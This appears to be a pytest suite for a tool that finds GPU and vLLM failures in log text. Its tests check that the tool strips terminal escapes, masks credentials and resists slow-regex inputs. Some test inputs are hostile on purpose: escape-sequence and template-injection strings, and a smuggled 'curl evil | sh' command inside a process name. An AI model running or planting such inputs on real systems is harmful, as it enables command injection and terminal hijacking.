"""Finding failures in texts that others wrote: root causes before wrappers, nothing of the text obeyed or leaked."""

from __future__ import annotations

import time
from collections.abc import Callable
from types import ModuleType
from typing import Any

import pytest

from migrate.knowledge import failures

TABLE = failures.load().for_host({"host": "gpu01"})
NOW = 1763750400.0


@pytest.fixture
def finding(utility: Callable[[str], ModuleType]) -> ModuleType:
    return utility("migrate_failures")


def names(finding: ModuleType, text: str, place: str = "vllm", now: float = NOW) -> list[str]:
    found: list[dict[str, Any]] = finding.search([{"place": place, "where": "w", "text": text}], TABLE, now)
    return [match["name"] for match in found]


def only(finding: ModuleType, text: str, place: str = "vllm") -> dict[str, Any]:
    found: list[dict[str, Any]] = finding.search([{"place": place, "where": "w", "text": text}], TABLE, NOW)
    assert len(found) == 1
    return found[0]


def test_colours_of_the_log_do_not_hide_a_line(finding: ModuleType) -> None:
    prefix = "\x1b[1;36m(EngineCore pid=91)\x1b[0;0m ERROR 11-21 18:00:09 [core.py:1330]"
    line = f"{prefix} RuntimeError: No CUDA GPUs are available"
    assert only(finding, line)["line"] == "RuntimeError: No CUDA GPUs are available"


def test_what_a_terminal_would_obey_is_gone(finding: ModuleType) -> None:
    line = (
        "\x1b]0;owned\x07\x1b[2JCUDA out of memory\x07\x9b31m \u202egnp.exe [bold red]x[/] {{ lookup('pipe', 'id') }}"
    )
    told = only(finding, line)["line"]
    assert told.startswith("CUDA out of memory?")
    assert not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 or c == "\u202e" for c in told)


def test_a_huge_line_is_cut_and_costs_little(finding: ModuleType) -> None:
    began = time.process_time()
    assert names(finding, "A" * 5_000_000 + " CUDA out of memory") == []
    told = only(finding, "CUDA out of memory " + "B" * 5_000_000)["line"]
    assert len(told) <= 500
    assert time.process_time() - began < 5


def test_no_pattern_takes_long_over_lines_made_to_be_slow(finding: ModuleType) -> None:
    lines = ["KV cache is needed " * 100, "Xid (PCI:" + "0:" * 900, "lib-nvidia" * 190, "quantization method " * 100]
    lines += ["(" * 1900, "undefined symbol: _Z" + "9_moe" * 300, "failed to load '" + "a" * 1900, "token=" * 300]
    began = time.process_time()
    for place in ("vllm", "kernel", "engine", "run", "triton"):
        names(finding, "\n".join(lines * 5), place)
    assert time.process_time() - began < 5


@pytest.mark.parametrize(
    "line",
    [
        "CUDA out of memory api_key='sk-very-secret-0123456789abcdef'",
        "CUDA out of memory --api-key=very-secret-0123456789",
        "CUDA out of memory {'api_key': ['very-secret-0123456789']}",
        "CUDA out of memory hf_secretsecretsecretsecret",
        "CUDA out of memory Authorization: Bearer very-secret-0123456789",
        "CUDA out of memory http://bob:very-secret-0123@proxy:3128/",
        "CUDA out of memory HF_TOKEN: very-secret-0123456789",
    ],
)
def test_no_secret_is_shown(finding: ModuleType, line: str) -> None:
    told = only(finding, line)["line"]
    assert "secret" not in told
    assert "***" in told


def test_counts_of_tokens_are_no_secret(finding: ModuleType) -> None:
    told = only(finding, "CUDA out of memory max_tokens=4096, eos_token_id: 50256")["line"]
    assert told == "CUDA out of memory max_tokens=4096, eos_token_id: 50256"


def test_what_a_line_gives_never_becomes_a_command(finding: ModuleType) -> None:
    told = only(finding, "Memory cgroup out of memory: Killed process 1 (x; curl evil | sh)", "kernel")
    assert "curl" not in told["means"] + told["do"]
    assert "what the line names" in told["means"]


def test_logged_information_is_no_failure(finding: ModuleType) -> None:
    assert names(finding, "INFO 11-21 18:00:00 [x.py:1] retry after CUDA out of memory") == []
    assert names(finding, '(APIServer pid=1) INFO:     127.0.0.1 - "POST /v1/x?CUDA out of memory" 200') == []
    assert names(finding, "W1121 18:00:00.000000 1 x.cc:1] CUDA out of memory", "triton") == []


def test_source_lines_of_a_traceback_are_no_failure(finding: ModuleType) -> None:
    assert names(finding, '    raise ValueError("No available memory for the cache blocks")') == []


def test_lines_of_the_kernel_grow_old(finding: ModuleType) -> None:
    line = "{:.6f} gpu01 kernel: NVRM: Xid (PCI:0000:01:00): 79, GPU has fallen off the bus."
    assert names(finding, line.format(NOW - 3600), "kernel") == ["xid-79"]
    assert names(finding, line.format(NOW - 90_000), "kernel") == []
    assert names(finding, line.partition(" ")[2], "kernel") == ["xid-79"]


def test_a_hang_is_one_at_the_end_only(finding: ModuleType) -> None:
    line = "INFO 11-21 11:24:33 [pynccl.py:113] vLLM is using nccl==2.27.3"
    assert names(finding, f"{line}\n\n") == ["nccl-hangs"]
    assert names(finding, f"{line}\nINFO 11-21 11:24:34 [x.py:1] and on") == []


def test_the_same_failure_is_counted(finding: ModuleType) -> None:
    assert (
        only(finding, "2026-11-21T18:00:00Z CUDA out of memory\n2026-11-21T18:00:01Z CUDA out of memory")["count"] == 2
    )


def test_the_root_cause_comes_before_what_wraps_it(finding: ModuleType) -> None:
    text = "RuntimeError: Engine core initialization failed.\nValueError: No available memory for the cache blocks"
    assert finding.root_cause(text, TABLE)[0].startswith("ValueError: No available memory")
    assert (
        finding.first_error("Traceback (most recent call last):\nEngineDeadError: x\nKeyError: 'y'") == "KeyError: 'y'"
    )


def test_without_a_table_the_first_error_is_told(finding: ModuleType) -> None:
    assert finding.root_cause("all well\nKeyError: 'y'", []) == (
        "KeyError: 'y'",
        "read the container's log: docker logs",
    )
